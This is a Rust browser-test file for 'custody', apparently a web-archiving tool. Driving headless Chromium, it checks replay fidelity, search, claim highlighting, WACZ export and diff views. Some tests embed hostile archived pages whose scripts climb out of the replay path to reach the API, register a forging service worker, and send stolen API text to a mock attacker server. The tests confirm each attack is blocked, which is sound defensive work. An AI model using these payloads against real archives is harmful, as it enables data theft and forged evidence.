//! The web UI and replay in a real browser: Debian's Chromium, headless,
//! driven over the DevTools protocol by `tests/browser/cdp.py` (installed
//! by scripts/test.sh). The live site counts its requests, so "the replay
//! shows the archived image, not the live one" is checked from both ends.

use std::net::SocketAddr;
use std::process::Command;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;

use axum::http::header;
use axum::routing::get;
use axum::Router;
use serde_json::Value;

use crate::cli::{stderr_text, Workdir, QUOTE};
use crate::site;
use crate::web::{serve, token};

/// A small real PNG (solid colour), so the browser has something to decode.
pub fn png(width: u32, height: u32, rgb: [u8; 3]) -> Vec<u8> {
    use std::io::Write;
    // Each row: filter type 0, then the pixels.
    let row: Vec<u8> = std::iter::once(0)
        .chain(rgb.iter().copied().cycle().take(3 * width as usize))
        .collect();
    let raw = row.repeat(height as usize);
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    z.write_all(&raw).unwrap();
    let idat = z.finish().unwrap();
    let chunk = |kind: &[u8], data: &[u8]| {
        let mut c = (data.len() as u32).to_be_bytes().to_vec();
        c.extend_from_slice(kind);
        c.extend_from_slice(data);
        c.extend_from_slice(&crc32fast::hash(&[kind, data].concat()).to_be_bytes());
        c
    };
    let mut ihdr = width.to_be_bytes().to_vec();
    ihdr.extend_from_slice(&height.to_be_bytes());
    ihdr.extend_from_slice(&[8, 2, 0, 0, 0]);
    [
        &b"\x89PNG\r\n\x1a\n"[..],
        &chunk(b"IHDR", &ihdr),
        &chunk(b"IDAT", &idat),
        &chunk(b"IEND", &[]),
    ]
    .concat()
}

const PRYING_PATH: &str = "/2016/11/29/live-blog/";

/// The article with decodable images, counting every request it answers.
async fn serve_live_site() -> (SocketAddr, Arc<AtomicUsize>) {
    let hits = Arc::new(AtomicUsize::new(0));
    let mut app = Router::new().route(
        site::ARTICLE_PATH,
        get(|| async {
            (
                [(header::CONTENT_TYPE, "text/html; charset=UTF-8")],
                site::article_html(),
            )
        }),
    );
    // A page whose script tries to read custody's API when it is replayed.
    app = app.route(
        PRYING_PATH,
        get(|| async {
            (
                [(header::CONTENT_TYPE, "text/html; charset=UTF-8")],
                // custody's client script maps a plain fetch of `/api/...`
                // into the archive; a URL that starts inside the archive and
                // climbs out of it passes that script, as an attacker's
                // would, and reaches custody's API itself.
                "<!DOCTYPE html><html><head><title>live blog</title></head><body><p>Updates</p>\
                 <script>const p = location.pathname, root = p.slice(0, p.indexOf('/replay/') + 8);\
                 fetch(location.origin + root + '../../../../api/v1/captures')\
                 .then(r => { document.title = 'api:' + r.status; })\
                 .catch(() => { document.title = 'api:blocked'; });</script></body></html>",
            )
        }),
    );
    for (n, (path_query, mime, body)) in site::requisites().into_iter().enumerate() {
        let path = path_query.split('?').next().unwrap_or(path_query);
        let body = if mime.starts_with("image/") {
            png(64 + n as u32, 48, [180, 30, 30])
        } else {
            body
        };
        app = app.route(
            path,
            get(move || async move { ([(header::CONTENT_TYPE, mime)], body) }),
        );
    }
    let counter = hits.clone();
    let app = app.layer(axum::middleware::from_fn(
        move |req: axum::extract::Request, next: axum::middleware::Next| {
            counter.fetch_add(1, Ordering::SeqCst);
            next.run(req)
        },
    ));
    (site::serve_app(app).await, hits)
}

#[tokio::test(flavor = "multi_thread")]
async fn in_chromium_replay_shows_the_archived_images_and_the_claim_page_highlights_the_passage() {
    let (live, hits) = serve_live_site().await;
    let work = Workdir::new("");
    let url = format!("http://{live}{}", site::ARTICLE_PATH);
    let (capture, out) = work.capture(&url);
    assert_eq!(
        capture.status,
        custody::model::CaptureStatus::Ok,
        "{}",
        stderr_text(&out)
    );
    let claim_id = work.claim_linked_to(&[&capture]);
    let prying_url = format!("http://{live}{PRYING_PATH}");
    let (prying, _) = work.capture(&prying_url);
    // An Arabic-language page (Windows-1256), for full-text search.
    let arabic_site = site::serve_http().await;
    let (arabic, out) = work.capture(&format!("http://{arabic_site}{}", site::ARABIC_PATH));
    assert_eq!(
        arabic.status,
        custody::model::CaptureStatus::Ok,
        "{}",
        stderr_text(&out)
    );
    let server = serve(&work, &[]);
    let reader = token(&work, "reader");
    let live_hits = hits.load(Ordering::SeqCst);

    let ts = custody::model::timestamp14(&capture.started_at);
    let search_page = format!(
        "/ui/search?q={}",
        url::form_urlencoded::byte_serialize(live.to_string().as_bytes()).collect::<String>()
    );
    // Chromium signs in through the login form; the cookie then reads.
    let pages = [
        "/".to_string(),
        search_page,
        format!("/ui/captures/{}", capture.id),
        format!("/ui/claims/{claim_id}"),
        format!("/ui/timeline?url={url}"),
        "/ui/schedules".to_string(),
        "/ui/fixity".to_string(),
        format!("/replay/{ts}/{url}"),
        format!(
            "/replay/{}/{prying_url}",
            custody::model::timestamp14(&prying.started_at)
        ),
        // Full-text search: a word of the article's body, an Arabic word.
        "/ui/search?q=Kirby".to_string(),
        format!(
            "/ui/search?q={}",
            url::form_urlencoded::byte_serialize("النيرب".as_bytes()).collect::<String>()
        ),
    ];
    let reports = browse_signed_in(server.addr, &reader, &pages);
    let base = format!("http://{}/", server.addr);
    for r in &reports {
        let page = r["url"].as_str().unwrap();
        for req in r["requests"].as_array().unwrap() {
            let req = req.as_str().unwrap();
            assert!(
                req.starts_with(&base) || req.starts_with("data:"),
                "{page} loaded {req} from outside the server"
            );
        }
        if page.contains("/ui/") || page.ends_with('/') && !page.contains("/replay/") {
            assert_eq!(r["console_errors"], serde_json::json!([]), "{page}");
        }
    }
    let by_path = |p: &str| {
        reports
            .iter()
            .find(|r| r["url"].as_str().unwrap().ends_with(p))
            .unwrap_or_else(|| panic!("no report for {p}"))
    };
    // Search finds the capture.
    let search = &reports[1];
    assert!(
        search["text"].as_str().unwrap().contains(&url),
        "search did not find the capture: {}",
        search["text"]
    );
    // Full-text search finds and highlights the body's word and the
    // Arabic word.
    let (body_word, arabic_word) = (&reports[9], &reports[10]);
    assert!(body_word["text"]
        .as_str()
        .unwrap()
        .contains("Archived pages that say this"));
    assert_eq!(
        body_word["marks"],
        serde_json::json!(["Kirby"]),
        "{body_word}"
    );
    assert_eq!(
        arabic_word["marks"],
        serde_json::json!(["النيرب"]),
        "{arabic_word}"
    );
    assert!(
        arabic_word["text"]
            .as_str()
            .unwrap()
            .contains("إجلاء حلب الشرقية"),
        "{arabic_word}"
    );
    // The claim page highlights the quoted passage in the archived text.
    let claim_page = by_path(&format!("/ui/claims/{claim_id}"));
    assert_eq!(
        claim_page["marks"],
        serde_json::json!([QUOTE]),
        "{claim_page}"
    );
    // The replayed article shows its archived images, in the frame below
    // the banner.
    let replay = by_path(&format!("/replay/{ts}/{url}"));
    assert!(replay["text"].as_str().unwrap().contains("Archived copy"));
    let images = framed(replay)["images"].as_array().unwrap();
    assert!(!images.is_empty());
    for img in images {
        // Loaded with the replay grant in the path, never the cookie.
        let src = img["src"].as_str().unwrap();
        assert!(src.starts_with(&format!("{base}g/")), "{src}");
        assert!(src.contains(&format!("/replay/{ts}if_/")), "{src}");
        // 0 when it did not decode (srcset scaling makes it not exactly 64+).
        assert!(
            img["naturalWidth"].as_u64().unwrap() > 0,
            "{img} did not decode"
        );
    }
    // An archived script cannot read the API: its page is sandboxed (an
    // opaque origin), so the API is another origin it may not read.
    let prying = by_path(&format!(
        "/replay/{}/{prying_url}",
        custody::model::timestamp14(&prying.started_at)
    ));
    assert_eq!(framed(prying)["title"], "api:blocked", "{prying}");
    assert_eq!(
        hits.load(Ordering::SeqCst),
        live_hits,
        "the browser fetched from the live site during replay"
    );
}

/// Captures each path of the live site, each one `ok`.
fn captured_ok(work: &Workdir, live: SocketAddr, paths: &[&str]) -> Vec<custody::model::Capture> {
    paths
        .iter()
        .map(|path| {
            let (c, out) = work.capture(&format!("http://{live}{path}"));
            assert_eq!(
                c.status,
                custody::model::CaptureStatus::Ok,
                "{path}: {}",
                stderr_text(&out)
            );
            c
        })
        .collect()
}

/// The report of the archived page inside custody's frame page.
fn framed(report: &Value) -> &Value {
    let frames = report["frames"].as_array().expect("frames reported");
    assert_eq!(frames.len(), 1, "one framed page: {report}");
    &frames[0]
}

/// Signs in through the UI's login form (the token kept in its cookie),
/// then loads `paths`; one report per page.
fn browse_signed_in(server: SocketAddr, token: &str, paths: &[String]) -> Vec<Value> {
    let login = [
        "--login".to_string(),
        format!("http://{server}"),
        token.to_string(),
    ];
    let urls: Vec<String> = paths
        .iter()
        .map(|p| format!("http://{server}{p}"))
        .collect();
    browse(&[&login[..], &urls[..]].concat())
}

/// Runs cdp.py with `args` (options, then URLs); one report per URL.
fn browse(args: &[String]) -> Vec<Value> {
    let chromium = ["chromium", "chromium-browser"]
        .into_iter()
        .find(|c| Command::new(c).arg("--version").output().is_ok())
        .expect("chromium not found: run the tests with scripts/test.sh, which installs it");
    let script = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/browser/cdp.py");
    let out = Command::new("python3")
        .arg(script)
        .arg(chromium)
        .args(args)
        .output()
        .expect("run cdp.py");
    assert!(out.status.success(), "cdp.py failed: {}", stderr_text(&out));
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

/// What the attacker's server received: every request's path and query.
async fn serve_attacker() -> (SocketAddr, Arc<std::sync::Mutex<Vec<String>>>) {
    let seen = Arc::new(std::sync::Mutex::new(Vec::new()));
    let log = seen.clone();
    let app = Router::new().fallback(move |uri: axum::http::Uri| {
        let log = log.clone();
        async move {
            log.lock().unwrap().push(uri.to_string());
            "<html><title>attacker</title></html>"
        }
    });
    (site::serve_app(app).await, seen)
}

/// The attacks of issue 13, from a replayed hostile page in Chromium: it
/// registers a service worker over the site's `id_` replays (which would
/// then forge another capture), and, on one click, opens the API in a
/// popup, reads it, and sends it (and its own URL, which holds its replay
/// grant) to another server, by navigating the top window and its own
/// frame there. All of it fails: the page is sandboxed, service worker
/// scripts are refused, and custody's frame page lets its frame navigate
/// only inside custody, so nothing reaches the attacker.
#[tokio::test(flavor = "multi_thread")]
async fn in_chromium_a_hostile_replayed_page_registers_no_worker_and_reads_nothing() {
    let (attacker, stolen) = serve_attacker().await;
    let hostile = format!(
        "<!DOCTYPE html><html><head><title>hostile</title></head><body>\
         <p>Breaking: statement</p><button id=\"custody-test-click\">read more</button>\
         <script>\
         try {{\
           navigator.serviceWorker.register('/replay/id_/' + location.pathname.split('/replay/')[1].split('/').slice(1, 4).join('/') + '/sw.js')\
             .then(() => {{ document.title = 'sw:registered'; }}, e => {{ document.title = 'sw:' + e.name; }});\
         }} catch (e) {{ document.title = 'sw:' + e.name; }}\
         document.getElementById('custody-test-click').onclick = () => {{\
           let w = null;\
           try {{ w = window.open('/api/v1/captures'); }} catch (e) {{}}\
           setTimeout(() => {{\
             let t = 'none';\
             try {{ t = w.document.body.innerText; }} catch (e) {{ t = 'unreadable:' + e.name; }}\
             try {{ top.location = 'http://{attacker}/top?d=' + encodeURIComponent(location.href); }} catch (e) {{}}\
             location = 'http://{attacker}/steal?d=' + encodeURIComponent(t);\
           }}, 1500);\
         }};\
         </script></body></html>"
    );
    let worker = "self.addEventListener('fetch', e => e.respondWith(new Response('<h1>forged by a worker</h1>', {headers: {'content-type': 'text/html'}})));";
    let app = Router::new()
        .route(
            "/hostile/",
            get(move || async move {
                (
                    [(header::CONTENT_TYPE, "text/html; charset=UTF-8")],
                    hostile,
                )
            }),
        )
        .route(
            "/sw.js",
            get(move || async move { ([(header::CONTENT_TYPE, "text/javascript")], worker) }),
        )
        .route(
            "/other/",
            get(|| async {
                (
                    [(header::CONTENT_TYPE, "text/html; charset=UTF-8")],
                    "<html><body><p>the genuine other page</p></body></html>",
                )
            }),
        );
    let live = site::serve_app(app).await;
    let work = Workdir::new("");
    let captured = captured_ok(&work, live, &["/hostile/", "/sw.js", "/other/"]);
    let server = serve(&work, &[]);
    let reader = token(&work, "reader");
    let ts = custody::model::timestamp14(&captured[0].started_at);
    let pages = [
        format!("/replay/{ts}/http://{live}/hostile/"),
        format!("/replay/id_/http://{live}/other/"),
        "/ui/fixity".to_string(),
    ];
    let reports = browse_signed_in(server.addr, &reader, &pages);

    // The worker was never registered: the page may not, and its script
    // is refused to a worker's fetch.
    let replayed = framed(&reports[0]);
    assert_eq!(
        replayed["location"], "chrome-error://chromewebdata/",
        "the click ran, and the frame's navigation to the attacker was blocked: {replayed}"
    );
    assert!(
        reports[0]["location"]
            .as_str()
            .unwrap()
            .contains(&format!("/replay/{ts}/http://{live}/hostile/")),
        "the top window stayed on custody's frame page: {}",
        reports[0]
    );
    let other = &reports[1];
    assert!(
        other["text"]
            .as_str()
            .unwrap()
            .contains("the genuine other page"),
        "another capture replays as archived: {other}"
    );
    let ui = &reports[2];
    assert_eq!(ui["service_workers"], serde_json::json!([]), "{ui}");
    let refused = crate::web::request(
        server.addr,
        "GET",
        &format!("/replay/id_/http://{live}/sw.js"),
        &[
            ("Service-Worker", "script"),
            ("Authorization", &format!("Bearer {reader}")),
        ],
        None,
    );
    assert_eq!(refused.status, 403, "{}", refused.text());

    // The popup never opened, and nothing at all reached the attacker.
    assert_eq!(*stolen.lock().unwrap(), Vec::<String>::new());
}

/// The pages of the replay-fidelity test (issue 21), on a live site whose
/// own address some of them name: a fixed navigation bar, an image-CDN
/// `srcset` with commas in its URLs, an image and a `fetch` built by a
/// script, and a graph of ES modules that import one another by relative,
/// root-relative and absolute specifiers.
async fn serve_fidelity_site() -> SocketAddr {
    let addr = Arc::new(std::sync::OnceLock::<SocketAddr>::new());
    fn html(body: String) -> impl axum::response::IntoResponse {
        ([(header::CONTENT_TYPE, "text/html; charset=UTF-8")], body)
    }
    fn js(body: String) -> impl axum::response::IntoResponse {
        ([(header::CONTENT_TYPE, "text/javascript")], body)
    }
    let a1 = addr.clone();
    let a2 = addr.clone();
    let a3 = addr.clone();
    let app = Router::new()
        .route(
            "/fixed/",
            get(move || {
                let live = *a1.get().unwrap();
                async move {
                    html(format!(
                        "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>fixed</title>\
                         <link rel=\"prefetch\" href=\"/tiles/1.png\"><link rel=\"prefetch\" href=\"/data.json\">\
                         <style>body{{margin:0;font:16px sans-serif}}\
                         nav{{position:fixed;top:0;left:0;right:0;height:83px;background:#246;color:#fff}}\
                         main{{padding-top:100px}}</style></head><body>\
                         <nav data-custody-measure=\"navbar\">Site navigation</nav><main>\
                         <p>Nearly 25 civilians were killed.</p>\
                         <img alt=\"cdn\" sizes=\"300px\" srcset=\"/cdn/image/upload/w_300,c_fill,q_80/photo.png 300w, \
                         /cdn/image/upload/w_600,c_fill,q_80/photo.png 600w\">\
                         <img id=\"made\" alt=\"made by a script\"><p id=\"fetched\">not fetched</p>\
                         <script>var t = window.__custody_test = {{}};\
                         var img = document.getElementById('made');\
                         img.onload = function () {{ t.made = img.naturalWidth; }};\
                         img.onerror = function () {{ t.made = 'error'; }};\
                         img.src = '/tiles/' + (0 + 1) + '.png';\
                         fetch('http://{live}/data.json').then(function (r) {{ return r.json(); }})\
                         .then(function (j) {{ t.fetched = j.text; document.getElementById('fetched').textContent = j.text; }},\
                         function (e) {{ t.fetched = 'error ' + e; }});</script>\
                         </main></body></html>"
                    ))
                }
            }),
        )
        .route(
            "/cdn/{*rest}",
            get(|| async { ([(header::CONTENT_TYPE, "image/png")], png(300, 200, [20, 120, 40])) }),
        )
        .route(
            "/tiles/1.png",
            get(|| async { ([(header::CONTENT_TYPE, "image/png")], png(256, 256, [200, 200, 40])) }),
        )
        .route(
            "/data.json",
            get(|| async {
                (
                    [(header::CONTENT_TYPE, "application/json")],
                    r#"{"text": "casualty count: 25"}"#,
                )
            }),
        )
        .route(
            "/modules/",
            get(|| async {
                html(
                    "<!DOCTYPE html><html><head><title>modules</title>\
                     <link rel=\"modulepreload\" href=\"/m/a.js\"><link rel=\"modulepreload\" href=\"/m/b.js\">\
                     <link rel=\"modulepreload\" href=\"/m/c.js\"><link rel=\"modulepreload\" href=\"/m/shared.js\">\
                     </head><body><p id=\"out\">loading</p>\
                     <script type=\"module\" src=\"/m/main.js\"></script></body></html>"
                        .to_string(),
                )
            }),
        )
        .route(
            "/m/main.js",
            get(move || {
                let live = *a2.get().unwrap();
                async move {
                    js(format!(
                        "import {{ a }} from './a.js';\nimport {{ b }} from '/m/b.js';\n\
                         import {{ c }} from 'http://{live}/m/c.js';\nimport {{ count }} from './shared.js';\n\
                         window.__custody_test = {{ a, b, c, evaluations: count() }};\n\
                         document.getElementById('out').textContent = [a, b, c].join(' ');\n"
                    ))
                }
            }),
        )
        .route(
            "/m/a.js",
            get(|| async { js("import './shared.js';\nexport const a = 'a';\n".into()) }),
        )
        .route(
            "/m/b.js",
            get(|| async { js("import '/m/shared.js';\nexport const b = 'b';\n".into()) }),
        )
        .route(
            "/m/c.js",
            get(move || {
                let live = *a3.get().unwrap();
                async move {
                    // Later than the page: its record has a later time, which
                    // replay must not turn into another URL.
                    tokio::time::sleep(std::time::Duration::from_millis(1200)).await;
                    js(format!(
                        "import 'http://{live}/m/shared.js';\nexport const c = 'c';\n"
                    ))
                }
            }),
        )
        .route(
            "/m/shared.js",
            get(|| async {
                js("let n = 0;\nexport function count() { return n; }\nn += 1;\n".into())
            }),
        );
    let bound = site::serve_app(app).await;
    addr.set(bound).unwrap();
    bound
}

/// What replay shows is what the live page showed (issue 21), measured in
/// Chromium on both: a fixed navigation bar is where it was and nothing of
/// custody's covers it (the banner is above the page's frame); a srcset
/// whose URLs hold commas, an image and a `fetch` built by the page's
/// script load from the archive; ES modules imported by relative,
/// root-relative and absolute specifiers are each requested once and
/// evaluated once. Nothing is fetched outside custody during replay.
#[tokio::test(flavor = "multi_thread")]
async fn in_chromium_replay_shows_what_the_live_page_showed() {
    let live = serve_fidelity_site().await;
    let work = Workdir::new("");
    let stamps: Vec<String> = captured_ok(&work, live, &["/fixed/", "/modules/"])
        .iter()
        .map(|c| custody::model::timestamp14(&c.started_at))
        .collect();
    let server = serve(&work, &[]);
    let reader = token(&work, "reader");
    let live_pages = browse(&[
        format!("http://{live}/fixed/"),
        format!("http://{live}/modules/"),
    ]);
    let replays = browse_signed_in(
        server.addr,
        &reader,
        &[
            format!("/replay/{}/http://{live}/fixed/", stamps[0]),
            format!("/replay/{}/http://{live}/modules/", stamps[1]),
        ],
    );
    let base = format!("http://{}/", server.addr);
    for r in &replays {
        for req in r["requests"].as_array().unwrap() {
            let req = req.as_str().unwrap();
            assert!(
                req.starts_with(&base) || req.starts_with("data:"),
                "{} loaded {req} from outside custody",
                r["url"]
            );
        }
    }

    // The navigation bar: where it was, below the banner, covered by nothing.
    let (live_fixed, replay_fixed) = (&live_pages[0], &replays[0]);
    let frame = framed(replay_fixed);
    let nav_live = &live_fixed["measured"]["navbar"];
    let nav = &frame["measured"]["navbar"];
    for side in ["top", "left", "height", "width"] {
        assert_eq!(
            nav[side], nav_live[side],
            "navbar {side}: {nav} live {nav_live}"
        );
    }
    let banner = &replay_fixed["measured"]["custody-banner"];
    let frame_box = &replay_fixed["measured"]["custody-frame"];
    let num = |v: &Value| v.as_f64().unwrap();
    assert!(num(&banner["height"]) > 0.0, "{replay_fixed}");
    assert!(
        num(&frame_box["top"]) + num(&nav["top"]) >= num(&banner["bottom"]),
        "the navbar starts under the banner: banner {banner}, frame {frame_box}, navbar {nav}"
    );
    // The same images decode, the script's image and fetch included.
    let decoded = |r: &Value| {
        r["images"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|i| i["naturalWidth"].as_u64().unwrap_or(0) > 0)
            .count()
    };
    assert_eq!(decoded(live_fixed), 2, "{live_fixed}");
    assert_eq!(decoded(frame), 2, "replay: {frame}");
    assert_eq!(frame["test"], live_fixed["test"], "replay {frame}");
    assert_eq!(frame["test"]["made"], 256, "{frame}");
    assert_eq!(frame["test"]["fetched"], "casualty count: 25", "{frame}");
    let cdn: Vec<&str> = frame["images"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|i| i["src"].as_str())
        .filter(|s| s.contains("/cdn/"))
        .collect();
    assert!(
        cdn.len() == 1 && cdn[0].contains("/cdn/image/upload/w_300,c_fill,q_80/photo.png"),
        "{cdn:?}"
    );

    // The modules: the same values, each module requested once, the shared
    // one evaluated once.
    let (live_modules, replay_modules) = (&live_pages[1], &replays[1]);
    let frame = framed(replay_modules);
    assert_eq!(
        live_modules["test"],
        serde_json::json!({"a": "a", "b": "b", "c": "c", "evaluations": 1}),
        "{live_modules}"
    );
    assert_eq!(
        frame["test"], live_modules["test"],
        "replay: {replay_modules}"
    );
    let requests: Vec<&str> = replay_modules["requests"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|r| r.as_str())
        .collect();
    for module in ["main", "a", "b", "c", "shared"] {
        let path = format!("/m/{module}.js");
        let n = requests.iter().filter(|r| r.ends_with(&path)).count();
        assert_eq!(n, 1, "{path} requested {n} times: {requests:#?}");
    }
    assert_eq!(
        replay_modules["console_errors"],
        serde_json::json!([]),
        "{replay_modules}"
    );
}

/// Serves ReplayWeb.page's viewer from `dir` and a package at
/// `/evidence.wacz`, as static files with HEAD and single byte ranges (as
/// ReplayWeb.page reads a WACZ).
async fn serve_static(dir: std::path::PathBuf, wacz: std::path::PathBuf) -> SocketAddr {
    use axum::http::{HeaderMap, Method, StatusCode, Uri};
    use axum::response::IntoResponse;
    let app = Router::new().fallback(move |method: Method, uri: Uri, headers: HeaderMap| {
        let (dir, wacz) = (dir.clone(), wacz.clone());
        async move {
            let rel = uri.path().trim_start_matches('/');
            let rel = if rel.is_empty() { "index.html" } else { rel };
            if rel.split('/').any(|p| p == "..") {
                return StatusCode::NOT_FOUND.into_response();
            }
            let file = if rel == "evidence.wacz" {
                wacz
            } else {
                dir.join(rel)
            };
            let Ok(body) = std::fs::read(file) else {
                return StatusCode::NOT_FOUND.into_response();
            };
            let mime = match rel.rsplit('.').next() {
                Some("html") => "text/html; charset=utf-8",
                Some("js") => "application/javascript",
                Some("json") => "application/json",
                Some("wasm") => "application/wasm",
                _ => "application/octet-stream",
            };
            let len = body.len();
            let range = headers
                .get(header::RANGE)
                .and_then(|v| v.to_str().ok())
                .and_then(|v| v.strip_prefix("bytes="))
                .and_then(|v| v.split_once('-'))
                .and_then(|(a, b)| {
                    let start: usize = a.parse().ok()?;
                    let end: usize = if b.is_empty() {
                        len - 1
                    } else {
                        b.parse().ok()?
                    };
                    (start <= end && start < len).then_some((start, end.min(len - 1)))
                });
            let (status, part, content_range) = match range {
                Some((a, b)) => (
                    StatusCode::PARTIAL_CONTENT,
                    body[a..=b].to_vec(),
                    Some(format!("bytes {a}-{b}/{len}")),
                ),
                None => (StatusCode::OK, body, None),
            };
            let mut resp = (
                status,
                [
                    (header::CONTENT_TYPE, mime.to_string()),
                    (header::ACCEPT_RANGES, "bytes".to_string()),
                    (header::CONTENT_LENGTH, part.len().to_string()),
                ],
            )
                .into_response();
            if let Some(cr) = content_range {
                resp.headers_mut()
                    .insert(header::CONTENT_RANGE, cr.parse().unwrap());
            }
            if method != Method::HEAD {
                *resp.body_mut() = axum::body::Body::from(part);
            }
            resp
        }
    });
    site::serve_app(app).await
}

/// The hand-over (issue 15): a custody WACZ opened in ReplayWeb.page, the
/// field's standard viewer, as a recipient opens it, from its own npm
/// package served on loopback. Its information panel shows the package as
/// signed, with custody's package key as the observer's public key and
/// custody as the software that made it, and the archived article replays
/// from the package with its images.
#[tokio::test(flavor = "multi_thread")]
async fn in_chromium_replaywebpage_shows_the_package_signed_and_replays_it() {
    let Some(viewer) = std::env::var_os("CUSTODY_TEST_RWP") else {
        panic!("CUSTODY_TEST_RWP is not set: run the tests with scripts/test.sh, which fetches ReplayWeb.page");
    };
    let (live, _) = serve_live_site().await;
    let work = Workdir::new("");
    let url = format!("http://{live}{}", site::ARTICLE_PATH);
    let capture = captured_ok(&work, live, &[site::ARTICLE_PATH]).remove(0);
    let wacz = work.path().join("evidence.wacz");
    let out = work.run(&[
        "export",
        capture.id.as_str(),
        "--format",
        "wacz",
        "-o",
        wacz.to_str().unwrap(),
    ]);
    assert!(out.status.success(), "{}", stderr_text(&out));
    let package_key = stderr_text(&out)
        .rsplit("signed by public key ")
        .next()
        .unwrap()
        .trim()
        .to_string();
    let server = serve_static(viewer.into(), wacz).await;
    let source = format!("http://{server}/evidence.wacz");
    let ts = custody::model::timestamp14(&capture.started_at);
    let encoded = |s: &str| url::form_urlencoded::byte_serialize(s.as_bytes()).collect::<String>();

    let info = browse(&[
        "--wait-for".into(),
        format!(
            "deepText().includes('Observer Public Key') && deepText().includes({})",
            serde_json::Value::String(package_key.clone())
        ),
        format!(
            "http://{server}/index.html?source={}#view=info",
            encoded(&source)
        ),
    ]);
    let text = info[0]["deep_text"].as_str().unwrap();
    assert_eq!(
        info[0]["waited"], true,
        "ReplayWeb.page never showed the key: {text}"
    );
    let after_label = text.split("Observer Public Key").nth(1).unwrap_or_default();
    let shown = after_label
        .trim_start()
        .trim_start_matches("Copy")
        .trim_start();
    assert!(
        shown.starts_with(&package_key),
        "the observer public key is custody's package key: {text}"
    );
    assert!(text.contains("Created With"), "{text}");
    assert!(text.contains("custody"), "{text}");

    let replay = browse(&[
        "--wait-for".into(),
        "deepAll('iframe').some(f => { try { const i = Array.from(f.contentDocument.images); \
         return i.length > 0 && i.every(x => x.complete && x.naturalWidth > 0); } catch (e) { return false; } })"
            .into(),
        format!(
            "http://{server}/index.html?source={}#view=pages&url={}&ts={ts}",
            encoded(&source),
            encoded(&url)
        ),
    ]);
    assert_eq!(
        replay[0]["waited"], true,
        "the article's images never decoded: {}",
        replay[0]
    );
    let images: Vec<Value> = replay[0]["frames"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|f| f["images"].as_array().cloned().unwrap_or_default())
        .collect();
    assert!(!images.is_empty(), "{}", replay[0]);
    for img in &images {
        assert!(
            img["naturalWidth"].as_u64().unwrap_or(0) > 0,
            "{img} did not decode"
        );
    }
}

/// Issue 18: a silently edited page's timeline marks the change, and the
/// diff view it links to shows the edited paragraph side by side, in
/// Chromium; reading both captures is recorded, and a bad id is one line.
#[tokio::test(flavor = "multi_thread")]
async fn in_chromium_the_timeline_marks_a_silent_edit_and_the_diff_view_shows_it() {
    let (addr, edited) = site::serve_editable().await;
    let work = Workdir::new("");
    let url = format!("http://{addr}/article/");
    let (before, _) = work.capture(&url);
    edited.store(true, Ordering::SeqCst);
    let (after, _) = work.capture(&url);
    let server = serve(&work, &[]);
    let reader = token(&work, "reader");
    let timeline = format!(
        "/ui/timeline?url={}",
        url::form_urlencoded::byte_serialize(url.as_bytes()).collect::<String>()
    );
    let diff = format!("/ui/diff?a={}&b={}", before.id, after.id);
    let html = crate::web::get(server.addr, &timeline, Some(&reader)).text();
    assert!(
        html.contains("first capture") && html.contains("dot changed"),
        "{html}"
    );
    assert!(
        html.contains(&diff.replace('&', "&amp;")),
        "the change links the diff: {html}"
    );

    let reports = browse_signed_in(server.addr, &reader, &[timeline, diff.clone()]);
    assert_eq!(reports[0]["console_errors"], serde_json::json!([]));
    let shown = reports[1]["text"].as_str().unwrap();
    assert!(shown.contains("What changed"), "{shown}");
    assert!(
        shown.contains("nearly 25 civilians were killed in airstrikes")
            && shown.contains("several people died in an incident"),
        "both sides of the edited paragraph: {shown}"
    );
    assert!(shown.contains("edited"), "{shown}");

    // Reading the two captures' text is in their custody record.
    for c in [&before, &after] {
        let events = crate::web::get(
            server.addr,
            &format!("/api/v1/captures/{}/events", c.id),
            Some(&reader),
        )
        .json();
        assert!(
            events["items"]
                .as_array()
                .unwrap()
                .iter()
                .any(|e| e["detail"]["via"] == "ui diff"),
            "{events}"
        );
    }
    let bad = crate::web::get(
        server.addr,
        &format!("/ui/diff?a=nonsense&b={}", after.id),
        Some(&reader),
    );
    assert_eq!(bad.status, 400);
    assert!(bad.text().contains("timeline"), "{}", bad.text());
}

/// Issue 18, in Chromium: an archivist signed in captures a page from the
/// home page's form, selects a passage on the capture's text view and
/// links it to a new claim (`claim show` verifies it), and a form posted
/// to custody from another site changes nothing.
#[tokio::test(flavor = "multi_thread")]
async fn in_chromium_an_archivist_captures_links_a_selected_passage_and_a_cross_site_form_fails() {
    let addr = site::serve_http().await;
    let work = Workdir::new("allow_private_networks = true");
    let server = serve(&work, &[]);
    let archivist = token(&work, "archivist");
    let base = format!("http://{}", server.addr);
    let article = format!("http://{addr}{}", site::ARTICLE_PATH);
    let acting = |act: &str, url: &str| {
        browse(&[
            "--login".to_string(),
            base.clone(),
            archivist.clone(),
            "--act".to_string(),
            act.to_string(),
            url.to_string(),
        ])
        .remove(0)
    };

    // Capture now, from the home page.
    let capture = format!(
        "(() => {{ const f = document.querySelector('form[action=\"/ui/capture\"]'); \
         f.url.value = {}; setTimeout(() => f.submit(), 50); return true; }})()",
        serde_json::json!(article)
    );
    let shown = acting(&capture, &format!("{base}/"));
    let location = shown["location"].as_str().unwrap();
    let capture_id = location
        .split("/ui/captures/")
        .nth(1)
        .unwrap_or_else(|| panic!("not a capture page: {shown}"))
        .to_string();
    assert!(
        shown["text"].as_str().unwrap().contains(&article),
        "{shown}"
    );
    let listed = crate::web::get(server.addr, "/", Some(&archivist)).text();
    assert!(listed.contains(&capture_id), "the capture is in the list");

    // Select a passage of the readable text; the form takes it.
    let select = format!(
        "(async () => {{ const q = {}; const t = document.getElementById('text'); \
         const n = t.firstChild, i = n.textContent.indexOf(q); const r = document.createRange(); \
         r.setStart(n, i); r.setEnd(n, i + q.length); const s = document.getSelection(); \
         s.removeAllRanges(); s.addRange(r); await new Promise(ok => setTimeout(ok, 400)); \
         const f = document.getElementById('link'); if (f.quote.value !== q) return false; \
         f.new_claim.value = 'Regime airstrikes killed civilians fleeing Bab Alnairab'; \
         setTimeout(() => f.submit(), 50); return true; }})()",
        serde_json::json!(QUOTE)
    );
